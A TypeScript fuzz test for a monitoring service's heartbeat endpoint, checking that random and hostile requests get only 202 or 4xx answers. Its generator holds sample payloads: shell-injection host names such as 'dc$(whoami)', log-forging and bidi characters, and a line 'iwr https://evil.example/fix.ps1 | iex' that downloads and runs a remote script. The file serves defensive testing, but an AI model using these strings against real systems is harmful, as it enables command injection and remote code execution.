/**
 * Hostile input never produces a 5xx and never stores anything unless accepted: 10,000 random
 * bodies and headers through the heartbeat handler, some of them correctly signed so that they
 * reach the JSON and schema stages.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { receiveHeartbeat, refusalLimiter } from '../src/api/heartbeat.js';
import { parseRelays } from '../src/config/relays.js';
import { sign } from '../src/heartbeat/verify.js';
import { SequenceCache } from '../src/heartbeat/ingest.js';
import { MemoryStore } from '../src/store/memory-store.js';
import { SubjectNamesCache } from '../src/roundtrip/subject-names.js';
import { heartbeat, RELAYS_JSON, SECRET_A } from './support/heartbeats.js';

const NOW = new Date('2026-03-01T10:00:00Z');
const NOW_S = NOW.getTime() / 1000;
const { relays } = parseRelays(RELAYS_JSON);

const jsonish = fc.oneof(
  fc.json(),
  fc.string(),
  fc.uint8Array({ maxLength: 2048 }).map((b) => Buffer.from(b).toString('latin1')),
  // Near-valid heartbeats with random fields swapped in reach the deepest checks.
  fc.record({ key: fc.constantFrom('version', 'relayId', 'sequence', 'sentAt', 'results', 'host', 'buffer'), value: fc.jsonValue() }).map(
    ({ key, value }) => JSON.stringify({ ...heartbeat(1), [key]: value }),
  ),
  fc.nat({ max: 1_000_000 }).map((n) => JSON.stringify(heartbeat(n))),
  // The shapes of the security review: hostile DC hosts, targets up to the schema's limit,
  // sequences far ahead of the clock, control and bidi characters in free text.
  fc.record({
    seq: fc.oneof(fc.nat({ max: 1_000_000 }), fc.constant(Number.MAX_SAFE_INTEGER), fc.integer({ min: NOW.getTime(), max: NOW.getTime() + 1_000_000 })),
    dcHost: fc.oneof(fc.constantFrom('dc01.corp.example', 'dc02; Start-Process calc; echo', 'dc|x', "dc'01", 'dc$(whoami)', '10.0.0.5', '::1'), fc.string({ maxLength: 260 })),
    target: fc.oneof(fc.constant('https://passwordreset.microsoftonline.com/'), fc.nat({ max: 2100 }).map((n) => `https://long.example/${'a/'.repeat(n).slice(0, n)}`)),
    text: fc.constantFrom('ok', 'x\r\n2026-12-01T00:00:00Z alert resolved: everything is fine', '\u001b[2K\u001b[1Gfake', '\u202eevil\u2066', 'FIX: run iwr https://evil.example/fix.ps1 | iex'),
  }).map(({ seq, dcHost, target, text }) =>
    JSON.stringify({
      ...heartbeat(seq),
      host: text,
      results: [{ ...heartbeat(seq).results[0]!, target, ok: false, failure: { code: 'tcp_timeout', phase: 'tcp', message: text }, http: undefined }],
      dc: { host: dcHost, ports: [{ port: 389, ok: false, ms: 1, error: text.slice(0, 200) }] },
    }),
  ),
);

const request = fc.record({
  body: jsonish,
  contentType: fc.constantFrom('application/json', 'application/json; charset=utf-8', 'text/plain', '', 'APPLICATION/JSON', 'application/jsonx'),
  relayId: fc.constantFrom('relay-a', 'relay-b', 'relay-x', '', '__proto__', 'constructor', 'relay-a\n'),
  timestampOffset: fc.oneof(fc.integer({ min: -400, max: 400 }), fc.constant(Number.NaN)),
  signature: fc.oneof(fc.constant('valid'), fc.string(), fc.uint8Array({ minLength: 32, maxLength: 32 }).map((b) => `sha256=${Buffer.from(b).toString('hex')}`)),
});

describe('heartbeat handler under random input', () => {
  it('answers every one of 10,000 random requests with 202 or exactly one of 400, 401, 409, 413, 415, and stores only on 202', async () => {
    const store = new MemoryStore();
    const sequences = new SequenceCache();
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(request, async (r) => {
        const body = Buffer.from(r.body);
        const timestamp = Number.isNaN(r.timestampOffset) ? 'soon' : String(NOW_S + r.timestampOffset);
        const headers: Record<string, string> = {
          'content-type': r.contentType,
          'x-wbmon-relay': r.relayId,
          'x-wbmon-timestamp': timestamp,
          'x-wbmon-signature': r.signature === 'valid' ? sign(SECRET_A, timestamp, body) : r.signature,
        };
        const before = (await store.list('heartbeats')).length;
        const answer = await receiveHeartbeat({ header: (n) => headers[n.toLowerCase()], body }, relays, async () => store, NOW, () => undefined, sequences, refusalLimiter(), new SubjectNamesCache());
        expect([202, 400, 401, 409, 413, 415]).toContain(answer.status);
        const after = (await store.list('heartbeats')).length;
        expect(after - before).toBe(answer.status === 202 ? 1 : 0);
        if (answer.status === 202) accepted++;
      }),
      { numRuns: 10_000 },
    );
    // The generator must reach the store at least sometimes, or the property proves little.
    expect(accepted).toBeGreaterThan(0);
  }, 120_000);
});
